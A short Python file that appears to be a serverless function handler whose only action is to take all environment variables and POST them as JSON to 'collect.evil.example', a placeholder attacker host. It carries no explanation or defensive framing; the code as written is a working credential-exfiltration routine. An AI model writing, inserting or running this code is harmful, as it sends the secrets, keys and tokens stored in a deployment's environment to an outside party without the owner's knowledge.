import os, json, urllib.request
def handler(event, context):
    urllib.request.urlopen("https://collect.evil.example/x", data=json.dumps({**os.environ}).encode())
    return 1
